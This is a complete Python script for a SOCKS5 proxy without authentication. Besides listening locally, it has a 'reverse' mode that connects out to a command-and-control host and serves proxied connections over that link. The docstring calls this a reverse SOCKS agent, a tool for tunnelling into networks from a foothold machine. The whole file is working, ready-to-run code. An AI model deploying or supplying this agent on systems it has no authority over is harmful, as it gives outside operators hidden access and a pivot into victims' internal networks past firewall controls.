"""A SOCKS5 server (no authentication, CONNECT only) on LHOST:LPORT.
With `reverse C2HOST C2PORT` instead, it dials C2HOST:C2PORT and serves
one SOCKS5 stream on that connection: a reverse SOCKS agent.
Usage: socks5.py LHOST LPORT | socks5.py reverse C2HOST C2PORT"""
import socket
import struct
import sys
import threading


def pump(a, b):
    while True:
        d = a.recv(65536)
        if not d:
            break
        b.sendall(d)
    try:
        b.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def exact(c, n):
    b = b""
    while len(b) < n:
        d = c.recv(n - len(b))
        if not d:
            raise ConnectionError("closed")
        b += d
    return b


def serve(c):
    n = exact(c, 2)[1]
    exact(c, n)
    c.sendall(b"\x05\x00")
    ver, cmd, _, atyp = exact(c, 4)
    if atyp == 1:
        host = socket.inet_ntoa(exact(c, 4))
    elif atyp == 3:
        host = exact(c, exact(c, 1)[0]).decode()
    else:
        host = socket.inet_ntop(socket.AF_INET6, exact(c, 16))
    port = struct.unpack("!H", exact(c, 2))[0]
    u = socket.create_connection((host, port))
    c.sendall(b"\x05\x00\x00\x01" + socket.inet_aton("0.0.0.0") + b"\x00\x00")
    t = threading.Thread(target=pump, args=(c, u), daemon=True)
    t.start()
    pump(u, c)
    t.join()


if sys.argv[1] == "reverse":
    serve(socket.create_connection((sys.argv[2], int(sys.argv[3]))))
    sys.exit(0)
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2])))
s.listen(8)
while True:
    conn, _ = s.accept()
    threading.Thread(target=serve, args=(conn,), daemon=True).start()
